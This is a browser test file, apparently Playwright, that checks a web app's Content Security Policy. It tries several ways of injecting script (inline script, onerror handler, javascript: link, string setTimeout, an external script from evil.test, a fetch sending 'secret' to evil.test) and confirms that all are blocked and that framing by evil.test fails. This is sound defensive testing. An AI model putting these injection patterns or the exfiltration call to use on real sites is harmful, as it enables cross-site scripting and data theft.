import { expect, test } from './support/fixtures.ts'

/** Ways of running a script that somebody has smuggled into a page. */
const smuggled = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'window.smuggled = true'
    document.body.append(script)
  },
  'a handler in markup': () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/no-image" onerror="window.smuggled = true">',
    )
  },
  'a link of javascript': () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<a href="javascript:window.smuggled = true">x</a>',
    )
    document.body.querySelector<HTMLElement>('a[href^=javascript]')?.click()
  },
  'a text that is run': () => {
    // eslint-disable-next-line no-implied-eval
    setTimeout('window.smuggled = true')
  },
  'a script of another site': () => {
    const script = document.createElement('script')
    script.src = 'https://evil.test/smuggled.js'
    document.body.append(script)
  },
  'a style in markup': () => {
    document.body.insertAdjacentHTML('beforeend', '<p id="styled" style="position: fixed">x</p>')
  },
  'a word to another site': () => {
    void fetch('https://evil.test/?secret').catch(() => {})
  },
}

test('a script that is smuggled into a page does not run, and nothing reaches another site', async ({
  page,
  violations,
}) => {
  let isReached = false
  await page.route('https://evil.test/**', (route) => {
    isReached = true
    return route.fulfill({ body: 'window.smuggled = true' })
  })
  await page.goto('/sign-in')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  for (const [way, smuggle] of Object.entries(smuggled)) {
    violations.length = 0
    await page.evaluate(smuggle)
    await expect.poll(() => violations, way).not.toEqual([])
  }
  expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
  expect(
    await page.evaluate(
      () => getComputedStyle(document.body.lastElementChild ?? document.body).position,
    ),
  ).toBe('static')
  expect(isReached).toBe(false)
  violations.length = 0
})

test('no page of another site may show the app in a frame', async ({ app, page }) => {
  await page.route('https://evil.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${app}/sign-in"></iframe>` }),
  )
  await page.goto('https://evil.test/')
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/)
})
